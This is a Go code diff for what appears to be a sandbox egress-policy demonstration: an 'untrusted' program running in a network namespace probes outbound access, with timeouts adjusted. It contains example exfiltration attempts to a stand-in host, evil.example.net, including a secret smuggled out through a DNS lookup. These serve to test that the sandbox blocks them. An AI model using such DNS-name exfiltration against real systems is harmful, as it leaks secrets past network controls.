@@ -26,7 +26,7 @@ import (
 func main() {
 	log.SetFlags(0)
 	if len(os.Args) > 1 && os.Args[1] == "untrusted" {
-		untrusted()
+		untrusted(len(os.Args) > 2)
 		return
 	}
 	if err := start(); err != nil {
@@ -80,7 +80,11 @@ func (w *world) run(ctx context.Context, policy *netns.Egress) error {
 		return err
 	}
 	n := &netns.Networks{Endpoints: []netns.Endpoint{{Network: lan, Egress: policy}}, DNS: netns.DNS{Servers: []netip.AddrPort{netip.AddrPortFrom(names, 53)}}}
-	c, err := caisson.New(caisson.WithCommand("/untrusted", "untrusted"), caisson.WithMount(rootfs.ReadOnlyBindMount(self, "/untrusted")),
+	args := []string{"untrusted"}
+	if policy != nil {
+		args = append(args, "guarded")
+	}
+	c, err := caisson.New(caisson.WithCommand("/untrusted", args...), caisson.WithMount(rootfs.ReadOnlyBindMount(self, "/untrusted")),
 		caisson.WithNetwork(n), caisson.WithStdio())
 	if err != nil {
 		return err
@@ -102,10 +106,14 @@ func (w *world) run(ctx context.Context, policy *netns.Egress) error {
 	return nil
 }
 
-// untrusted is the program: it tries whatever it can think of.
-func untrusted() {
-	get := func(name, url string) {
-		client := &http.Client{Timeout: 2 * time.Second}
+// untrusted is the program: it tries whatever it can think of. Where it is guarded it does not wait long for what does not answer.
+func untrusted(guarded bool) {
+	patience := time.Minute
+	if guarded {
+		patience = 2 * time.Second
+	}
+	get := func(name, url string, patience time.Duration) {
+		client := &http.Client{Timeout: patience}
 		r, err := client.Get(url)
 		if err != nil {
 			fmt.Printf("   %-38s no: %s\n", name, short(err))
@@ -114,17 +122,17 @@ func untrusted() {
 		r.Body.Close()
 		fmt.Printf("   %-38s %s\n", name, r.Status)
 	}
-	get("api.example.org", "http://api.example.org/")
-	get("api.example.org, another port", "http://api.example.org:8080/")
-	get("evil.example.net", "http://evil.example.net/")
-	get("evil by its address", "http://"+evil.String()+"/")
+	get("api.example.org", "http://api.example.org/", time.Minute)
+	get("api.example.org, another port", "http://api.example.org:8080/", patience)
+	get("evil.example.net", "http://evil.example.net/", time.Minute)
+	get("evil by its address", "http://"+evil.String()+"/", patience)
 	// A name can carry a secret to whoever answers for the domain.
 	_, err := net.DefaultResolver.LookupHost(context.Background(), "my-secret.evil.example.net")
 	fmt.Printf("   %-38s %s\n", "a secret in a name", answer(err))
 	other := &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, network, _ string) (net.Conn, error) {
-		return (&net.Dialer{Timeout: time.Second}).DialContext(ctx, network, names.String()+":53")
+		return (&net.Dialer{Timeout: patience / 2}).DialContext(ctx, network, names.String()+":53")
 	}}
-	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
+	ctx, cancel := context.WithTimeout(context.Background(), patience)
 	defer cancel()
 	_, err = other.LookupHost(ctx, "my-secret.evil.example.net")
 	fmt.Printf("   %-38s %s\n", "the same, asking the server of names", answer(err))
